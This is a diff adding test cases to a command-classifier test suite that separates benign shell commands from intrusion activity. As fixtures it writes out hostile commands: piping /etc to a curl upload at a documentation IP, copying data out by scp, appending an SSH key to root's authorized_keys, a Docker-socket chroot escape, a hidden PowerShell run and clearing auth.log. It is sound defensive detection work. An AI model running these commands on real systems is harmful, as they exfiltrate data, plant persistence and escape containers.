@@ -79,6 +79,47 @@ test('what Windows, Defender, Office, browsers and management start by themselve
   expect(result.verdict).not.toBe('malicious');
 });
 
+test.each([
+  ['a switch of curl', 'curl -sSf https://api.example.test/health', 'command/proxy'],
+  ['a question about an account', 'net user anna /domain', 'command/account-removed'],
+  ['an account that is opened again', 'net user anna /active:yes', 'command/account-removed'],
+  ['the mode of a file of keys', 'chmod 600 ~/.ssh/authorized_keys', 'command/authorized-keys'],
+  ['an address with a word in it', 'mshta https://captcha-check.example/v.mp3', 'command/phishing-link'],
+  ['the name of a file', 'docker compose -f confluence.yml up -d', 'command/repositories'],
+  ['the language of a browser', 'chrome.exe --type=renderer --lang=de --enable-features=X', 'command/language'],
+  ['an archive that is sent away', 'tar czf - /etc /home | curl -T - http://198.51.100.7/up', 'command/download'],
+  ['a copy to another host', 'scp -r report.pdf anna@backup.example.test:/srv/', 'command/download'],
+  ['a copy to another host', 'rsync -a ./site/ deploy@web1.example.test:/var/www/', 'command/download'],
+  [
+    'a scanner that is lent the socket',
+    'docker run --rm -v /var/run/docker.sock:/var/run/docker.sock aquasec/trivy image app',
+    'command/container-escape',
+  ],
+])('%s is not taken for an act: %s', (_what, command, rule) => {
+  expect(classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention)).toEqual([]);
+});
+
+test.each([
+  ['./ssf -D 9000 198.51.100.7', 'command/proxy'],
+  ['/tmp/ssfd -p 8000', 'command/proxy'],
+  ['net user anna /active:no', 'command/account-removed'],
+  ['net user anna NewPass1', 'command/account-removed'],
+  ['echo ssh-rsa AAAA >> /root/.ssh/authorized_keys', 'command/authorized-keys'],
+  ['powershell -w hidden -c x # I am not a robot: captcha 1234', 'command/phishing-link'],
+  ['scp anna@198.51.100.7:/srv/x.sh /tmp/', 'command/download'],
+  ['tar czf - /etc | curl -T - http://198.51.100.7/up', 'command/streamed-out'],
+  ['scp -r /srv/data eve@198.51.100.7:/tmp/', 'command/sent-out'],
+  ['docker -H unix:///var/run/docker.sock run -v /:/mnt alpine chroot /mnt', 'command/container-escape'],
+])('the act itself is still told: %s', (command, rule) => {
+  const told = classifyCommand(command).signs.filter((sign) => sign.rule === rule && !sign.is_mention);
+  expect(told).toHaveLength(1);
+});
+
+test('a log of one service that is emptied is no grave act, the log of the system is', () => {
+  expect(gravest('truncate -s 0 /var/log/nginx/access.log')).toBe(rank('medium'));
+  expect(gravest('truncate -s 0 /var/log/auth.log')).toBe(rank('high'));
+});
+
 test('what intruders do stays accused', () => {
   expect(linesOf(INTRUDERS).filter((command) => gravest(command) < rank('medium'))).toEqual([]);
   expect(linesOf(INTRUDERS_QUIET).filter((command) => gravest(command) < rank('low'))).toEqual([]);
